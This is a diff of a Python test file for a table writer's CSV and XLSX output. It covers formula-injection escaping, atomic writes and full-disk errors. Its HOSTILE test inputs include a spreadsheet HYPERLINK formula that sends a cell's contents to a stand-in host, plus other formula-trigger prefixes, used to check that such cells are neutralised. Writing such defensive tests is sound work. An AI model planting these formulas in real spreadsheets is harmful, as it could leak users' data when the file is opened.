@@ -20,7 +20,14 @@ import shapely
 from conftest import ROOT, X0, Y0, frame, parcel, rect
 
 from terreinen.errors import TerreinenWriteError
-from terreinen.io.write import atomic_path, csv_text, refuse_inputs, safe_cell, write_table
+from terreinen.io.write import (
+    atomic_path,
+    csv_text,
+    original_text,
+    refuse_inputs,
+    safe_cell,
+    write_table,
+)
 
 HOSTILE = ['=HYPERLINK("http://x/?"&A1,"Klik")', "+1", "-2", "@SUM(A1)", "\tx", "\rx", "'=x"]
 
@@ -41,8 +48,8 @@ def _written(folder) -> int:
 
 
 def unprefix(value):
-    """The documented rule undone: one leading ' removed where terreinen added it."""
-    return value[1:] if isinstance(value, str) and value.startswith("'") else value
+    """The documented CSV rule undone (terreinen.io.write.original_text)."""
+    return original_text(value) if isinstance(value, str) else value
 
 
 @pytest.mark.parametrize("text", HOSTILE)
@@ -80,7 +87,7 @@ def test_xlsx_replaces_only_what_xml_cannot_hold(tmp_path):
 
 
 def test_csv_text_for_the_screen_uses_the_same_rule():
-    assert csv_text(pd.DataFrame({"a": ["=1+1"]})) == "a\n'=1+1\n"
+    assert csv_text(pd.DataFrame({"a": ["=1+1"]})) == "\"a\"\n\"'=1+1\"\n"
 
 
 @pytest.mark.parametrize(
@@ -129,7 +136,7 @@ def test_atomic_write_keeps_permission_bits(tmp_path):
     target.chmod(0o640)
     write_table(pd.DataFrame({"a": [1]}), target)
     assert stat.S_IMODE(target.stat().st_mode) == 0o640
-    assert target.read_text() == "a\n1\n"
+    assert target.read_text() == "\"a\"\n1\n"
 
 
 def test_atomic_write_goes_through_a_symbolic_link(tmp_path):
@@ -138,7 +145,7 @@ def test_atomic_write_goes_through_a_symbolic_link(tmp_path):
     link = tmp_path / "link.csv"
     link.symlink_to(real)
     write_table(pd.DataFrame({"a": [1]}), link)
-    assert link.is_symlink() and real.read_text() == "a\n1\n"
+    assert link.is_symlink() and real.read_text() == "\"a\"\n1\n"
 
 
 def test_new_files_follow_the_umask(tmp_path):
@@ -164,10 +171,10 @@ def test_fifo_device_and_folder_targets_are_refused(tmp_path):
 
 
 def test_full_disk_is_a_plain_message_and_leaves_nothing(tmp_path, monkeypatch):
-    def no_space(self, *args, **kwargs):
+    def no_space(*args, **kwargs):
         raise OSError(errno.ENOSPC, "No space left on device")
 
-    monkeypatch.setattr("pathlib.Path.write_text", no_space)
+    monkeypatch.setattr("os.write", no_space)
     with pytest.raises(TerreinenWriteError, match="the disk is full; nothing was written"):
         write_table(pd.DataFrame({"a": [1]}), tmp_path / "t.csv")
     assert list(tmp_path.iterdir()) == []
